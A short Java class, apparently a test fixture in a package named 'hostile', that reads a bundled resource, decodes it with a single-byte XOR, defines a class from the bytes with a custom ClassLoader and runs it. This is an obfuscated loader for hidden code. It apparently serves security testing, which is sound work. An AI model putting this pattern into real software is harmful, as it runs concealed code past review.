package hostile;

public final class Source {
    public Source() throws Exception {
        byte[] bytes = Source.class.getResourceAsStream("/hostile/NoteHidden.bin").readAllBytes();
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] ^= 0x55;
        }

         Class<?> type = new ClassLoader(Source.class.getClassLoader()) {
             Class<?> define() {
                 return defineClass(null, bytes, 0, bytes.length);
             }
         }.define();
         ((Runnable) type.getDeclaredConstructor().newInstance()).run();
    }
}
